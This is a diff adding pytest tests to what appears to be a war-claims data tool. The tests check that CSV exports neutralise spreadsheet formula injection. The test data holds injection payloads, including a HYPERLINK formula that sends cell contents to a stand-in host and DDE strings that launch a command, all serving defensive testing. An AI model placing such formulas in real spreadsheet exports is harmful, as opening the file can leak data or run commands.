@@ -266,3 +266,55 @@ def test_two_processes_appending_to_one_ledger_lose_nothing(ledger_copy, tmp_pat
     quantities = set(read_ledger(ledger_copy).claims["quantity"])
     assert {"1000", "1001", "1002", "2000", "2001", "2002"} <= quantities
     assert len(read_ledger(ledger_copy).claims) == before + 6
+
+
+# --- 2. CSV written for spreadsheets never carries a live formula ---------------------------
+
+SPREADSHEET_CELLS = [
+    # (cell, what a spreadsheet must be given)
+    ('=HYPERLINK("http://x.test/?"&A1,"click")', '\'=HYPERLINK("http://x.test/?"&A1,"click")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("  =1+1", "'  =1+1"),
+    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
+    ("-12", "-12"),  # plain numbers stay numbers
+    ("+3.5", "+3.5"),
+    ("-1,158", "-1,158"),
+    ("General Staff", "General Staff"),
+    ("about 150 soldiers", "about 150 soldiers"),
+]
+
+
+@pytest.mark.parametrize("cell, shown", SPREADSHEET_CELLS)
+def test_spreadsheet_cells_are_neutralised(cell, shown):
+    from warclaims.tables import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == shown
+
+
+def test_extract_csv_output_neutralises_formulas(tmp_path):
+    import csv
+
+    from warclaims.cli import main
+
+    candidates = tmp_path / "candidates.jsonl"
+    record = {"metric": "personnel_losses", "claimant": "@SUM(1+1)", "quantity": "-150",
+              "evidence": '=HYPERLINK("http://x.test","150 killed")', "place_raw": "+Kupiansk", "quantity_raw": "150"}
+    candidates.write_text(json.dumps(record) + "\n")
+    out = tmp_path / "candidates.csv"
+    assert main(["extract", str(candidates), "--format", "csv", "--out", str(out)]) == 0
+    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
+    assert row["claimant"] == "'@SUM(1+1)"
+    assert row["evidence"] == '\'=HYPERLINK("http://x.test","150 killed")'
+    assert row["place_raw"] == "'+Kupiansk"
+    assert row["quantity"] == "-150"  # a number, shown as one
+
+
+def test_spreadsheet_csv_writes_frames_for_exports():
+    from warclaims.tables import spreadsheet_csv
+
+    frame = pd.DataFrame({"claimant": ["=1+1", "Oryx"], "quantity": [-3, 5]})
+    assert spreadsheet_csv(frame).splitlines() == ["claimant,quantity", "'=1+1,-3", "Oryx,5"]
